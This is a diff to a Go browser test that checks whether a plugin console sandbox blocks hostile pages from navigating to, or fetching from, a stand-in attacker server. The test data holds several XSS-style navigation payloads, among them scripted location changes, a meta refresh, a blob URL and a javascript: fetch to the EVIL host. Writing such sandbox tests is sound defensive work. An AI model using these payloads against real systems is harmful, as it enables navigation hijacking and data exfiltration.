@@ -221,7 +221,7 @@ func TestHostileHints(t *testing.T) {
 func TestHostileNavigation(t *testing.T) {
 	shorttest.Skip(t)
 	evil := newElsewhere(t)
-	for name, page := range map[string]string{
+	attempts := map[string]string{
 		"script":  `<script>location.href = "EVIL/location?" + "data"</script>`,
 		"replace": `<script>location.replace("EVIL/replace")</script>`,
 		"refresh": `<meta http-equiv="refresh" content="0; url=EVIL/refresh">`,
@@ -232,20 +232,26 @@ func TestHostileNavigation(t *testing.T) {
 		"blob": `<script>location.href = URL.createObjectURL(new Blob(["<img src='EVIL/blob'>"],
 			{ type: "text/html" }))</script>`,
 		"script address": `<script>top.location.href = "javascript:fetch('EVIL/javascript')"</script>`,
-	} {
+	}
+	var plugins []paged
+	for name, page := range attempts {
+		plugins = append(plugins, paged{strings.ReplaceAll(name, " ", "-"), map[string]string{
+			"ui/index.html": `<!doctype html><body>` + strings.ReplaceAll(page, "EVIL", evil.URL)}, nil})
+	}
+	w := serve(t, plugins...)
+	c := w.console()
+	for name := range attempts {
 		t.Run(name, func(t *testing.T) {
-			w := serve(t, paged{"hostile", map[string]string{"ui/index.html": `<!doctype html><body>` +
-				strings.ReplaceAll(page, "EVIL", evil.URL)}, nil})
-			c := w.console()
-			c.show("hostile")
+			c.show(strings.ReplaceAll(name, " ", "-"))
 			c.Wait(`shown.frames[0].element.src !== ""`)
 			browsertest.Eval[any](c.Page, `new Promise((wake) => setTimeout(() => wake(1), 1000))`)
 			if evil.asked("/") {
 				t.Errorf("another server was asked for %q", evil.seen)
 			}
 			if got := browsertest.Eval[string](c.Page, `Promise.resolve(location.origin)`); got != w.URL() {
-				t.Errorf("the console is at %s", got)
+				t.Fatalf("the console is at %s", got)
 			}
+			c.Exec(`shown.frames.pop().close()`)
 		})
 	}
 }
